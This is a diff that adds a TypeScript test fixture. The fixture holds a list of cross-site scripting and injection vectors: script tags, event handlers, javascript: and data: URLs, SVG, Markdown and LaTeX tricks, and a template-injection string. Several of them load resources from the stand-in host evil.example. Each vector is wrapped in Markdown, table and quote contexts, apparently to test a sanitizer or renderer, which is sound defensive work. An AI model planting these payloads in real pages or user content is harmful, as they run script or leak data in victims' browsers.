@@ -1,0 +1,52 @@
+/** Each calls `ran`, or asks for something at evil.example, once a browser takes it for more than text. */
+const vectors = [
+  '<script>ran(1)</script>',
+  '<scr<script>ipt>ran(1)</scr</script>ipt>',
+  '<img src=x onerror=ran(1)>',
+  '<img src="https://evil.example/seen.png">',
+  '<svg onload=ran(1)></svg>',
+  '<svg><script>ran(1)</script></svg>',
+  '<svg><a xlink:href="javascript:ran(1)"><text y="9">x</text></a></svg>',
+  '<math href="javascript:ran(1)">x</math>',
+  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
+  '<iframe src="javascript:parent.ran(1)"></iframe>',
+  '<a href="javascript:ran(1)">x</a>',
+  '<a href="java&#9;script:ran(1)">x</a>',
+  '<input autofocus onfocus=ran(1)>',
+  '<details open ontoggle=ran(1)>x</details>',
+  '<video><source onerror=ran(1)></video>',
+  '<object data="https://evil.example/o"></object>',
+  '<embed src="https://evil.example/e">',
+  '<link rel=stylesheet href="https://evil.example/c.css">',
+  '<style>@import "https://evil.example/s.css"</style>',
+  '<p style="background:url(https://evil.example/b.png)">x</p>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/f"><button autofocus>x</button></form>',
+  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
+  '"><img src=x onerror=ran(1)>',
+  "'-ran(1)-'",
+  '</textarea></title></script><script>ran(1)</script>',
+  '![x](https://evil.example/m.png)',
+  '![x](javascript:ran(1))',
+  '[x](javascript:ran(1))',
+  '[x]( javascript:ran(1) "y")',
+  '[x](data:text/html,<script>ran(1)</script>)',
+  '<javascript:ran(1)>',
+  '[x][r]\n\n[r]: javascript:ran(1)',
+  '$\\href{javascript:ran(1)}{x}$',
+  '$$\\includegraphics{https://evil.example/i.png}$$',
+  '{{constructor.constructor("ran(1)")()}}',
+]
+
+/** As it stands, and where Markdown, tables and other writing put it. */
+const settings: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `> ${text}`,
+  (text) => `- one\n- ${text}`,
+  (text) => `| a | b |\n|---|---|\n| ${text} | 2 |`,
+  (text) => `**bold ${text} bold**`,
+  (text) => text.replace(/<(\w)/g, (_, letter) => `<${letter.toUpperCase()}`).replaceAll('=', ' = '),
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+]
+
+export const hostileTexts: string[] = settings.flatMap((put) => vectors.map(put))
